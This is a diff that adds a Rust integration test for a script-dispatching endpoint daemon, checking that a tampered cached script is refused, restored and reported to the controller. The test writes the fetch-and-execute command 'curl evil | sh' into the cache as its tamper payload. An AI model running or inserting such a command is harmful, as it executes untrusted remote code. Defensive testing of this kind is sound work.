@@ -110,6 +110,54 @@ fn daemon_runs_dispatched_scripts_syncs_new_serials_and_stops_on_sigterm() {
 }
 
 #[test]
+fn a_run_that_finds_the_cache_tampered_makes_the_daemon_repair_and_report_it_at_once() {
+    let p = Publisher::new();
+    p.publish(1, &[echo_script()]);
+    let dev = enrolled(&p, &[]);
+    let child = start(&dev, &[]);
+    let wait = Duration::from_secs(15);
+    p.server.wait_for(wait, |r| {
+        r.path.ends_with("/checkin") && r.json()["applied_serial"] == 1
+    });
+    // Someone edits the cached script on the endpoint.
+    let cached = dev.state().join("snapshots/1/echo-args").join("run.sh");
+    let original = std::fs::read(&cached).expect("cached script");
+    std::fs::write(&cached, "curl evil | sh\n").expect("tamper");
+    p.server.lock().polls.push_back((
+        200,
+        json!({"serial": 1, "runs": [
+            {"run_id": "t1", "script": "echo-args", "version": 1,
+             "params": {}, "requested_by": "alice"}
+        ]})
+        .to_string(),
+    ));
+    // The run is refused...
+    let r = p
+        .server
+        .wait_for(wait, |r| r.path == "/v1/runs/t1/result")
+        .json();
+    assert!(
+        r["error"]
+            .as_str()
+            .unwrap_or("")
+            .starts_with("cache-tampered"),
+        "{r}"
+    );
+    // ...and the daemon syncs at once (not at its 15-minute full sync): the file is
+    // restored and the controller hears of it in a check-in.
+    let checkin = p.server.wait_for(wait, |r| {
+        r.path.ends_with("/checkin")
+            && r.json()["errors"]
+                .as_array()
+                .is_some_and(|e| e.iter().any(|x| x["code"] == "cache-tampered"))
+    });
+    assert_eq!(checkin.json()["applied_serial"], 1);
+    assert_eq!(std::fs::read(&cached).expect("restored"), original);
+    sigterm(&child);
+    assert_eq!(exits_within(child, Duration::from_secs(10)).code(), Some(0));
+}
+
+#[test]
 fn sigterm_kills_a_running_script_after_the_grace_period_and_reports_it() {
     let p = Publisher::new();
     let m = format!("{}{}", std::process::id(), rand::random::<u16>());
